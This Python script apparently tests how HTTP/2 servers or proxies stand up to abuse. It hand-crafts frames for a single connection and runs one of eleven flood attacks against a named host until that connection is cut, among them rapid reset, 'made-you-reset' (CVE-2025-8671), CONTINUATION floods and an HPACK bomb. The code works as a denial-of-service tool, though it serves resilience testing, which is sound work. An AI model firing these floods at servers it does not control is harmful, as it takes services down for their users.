"""One HTTP/2 connection that misbehaves in one way until it is cut: how many of its frames were taken, and what it was told.

Frames are made by hand: a library would refuse to send them.
"""

import json
import select
import socket
import ssl
import struct
import sys
import time

import hpack

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
# Turns that an offender gets: an agent that bears more is not protected.
MOST = 20_000

encoder = hpack.Encoder()
host = path = ""


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def block(method="GET", more=()):
    fields = [(":method", method), (":scheme", "https"), (":authority", host), (":path", path), *more]
    return encoder.encode(fields)


def request(stream, flags=END_STREAM | END_HEADERS, **what):
    return frame(HEADERS, flags, stream, block(**what))


def made_you_reset(turn, stream):
    """The six ways to make a server reset a stream that it has begun to serve (CVE-2025-8671)."""
    return request(stream) + [
        frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)),
        frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF)),
        frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 0)),
        frame(PRIORITY, 0, stream, b"four"),
        request(stream),
        frame(DATA, END_STREAM, stream, b"late"),
    ][turn % 6]


def bomb(turn, stream):
    """A small block of a hundred references to one large field."""
    fields = [("cookie", "x" * 3000)]
    first = encoder.encode(fields) if turn == 0 else b""
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, block() + first + b"\xbe" * 200)


FLOODS = {
    "rapid-reset": lambda turn, stream: request(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)),
    "made-you-reset": made_you_reset,
    "continuation": lambda turn, stream: (
        frame(HEADERS, END_STREAM, 1, block()) if turn == 0 else frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b")
    ),
    "hpack-bomb": bomb,
    "ping": lambda turn, stream: frame(PING, 0, 0, bytes(8)),
    "settings": lambda turn, stream: frame(SETTINGS, 0, 0),
    "empty-data": lambda turn, stream: (
        request(1, END_HEADERS, method="POST") if turn == 0 else frame(DATA, 0, 1)
    ),
    "window-update": lambda turn, stream: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
    "window-overflow": lambda turn, stream: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)),
    "priority": lambda turn, stream: frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 0)),
    "malformed": lambda turn, stream: request(stream, more=[("Upper", "case")]),
}


def connect(order):
    """A connection over HTTP/2; through a proxy, where `order` names one."""
    context = ssl.create_default_context(cafile=order["trust"])
    context.set_alpn_protocols(["h2"])
    address = order.get("proxy") or socket.getaddrinfo(host, 443, socket.AF_INET, socket.SOCK_STREAM)[0][4]
    plain = socket.create_connection(tuple(address), timeout=20)
    if order.get("proxy"):
        plain.sendall(f"CONNECT {order['tunnel']} HTTP/1.1\r\nHost: {order['tunnel']}\r\n\r\n".encode())
        assert b" 200 " in plain.recv(4096)
    stream = context.wrap_socket(plain, server_hostname=host)
    assert stream.selected_alpn_protocol() == "h2"
    stream.setblocking(False)
    return stream


def flood(order):
    """Misbehaves until it is cut, and tells what became of it."""
    global encoder, host, path
    encoder, host, path, kind = hpack.Encoder(), order["host"], order["path"], order["kind"]
    stream = connect(order)
    unread, unsent = b"", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
    told, turns, cut = None, 0, False
    begun = time.monotonic()
    while not cut and turns < MOST and time.monotonic() < begun + 30:
        if len(unsent) < 65536:
            unsent += FLOODS[kind](turns, 2 * turns + 1)
            turns += 1
        try:
            unsent = unsent[stream.send(unsent):]
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            select.select([stream], [], [], 0.01)
        except OSError:
            cut = True
        try:
            octets = stream.recv(65536)
            cut = cut or not octets
            unread += octets
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            cut = True
        while len(unread) >= 9 and len(unread) >= 9 + int.from_bytes(unread[:3], "big"):
            length = int.from_bytes(unread[:3], "big")
            if unread[3] == GOAWAY:
                told = int.from_bytes(unread[13:17], "big")
            # Nothing may stand within the header block that is under way there.
            if unread[3] == SETTINGS and not unread[4] & 1 and kind != "continuation":
                unsent += frame(SETTINGS, 1, 0)
            unread = unread[9 + length:]
    stream.close()
    return {"cut": cut, "turns": turns, "told": told, "seconds": round(time.monotonic() - begun, 2)}


if __name__ == "__main__":
    print(json.dumps(flood(json.loads(sys.argv[1]))))
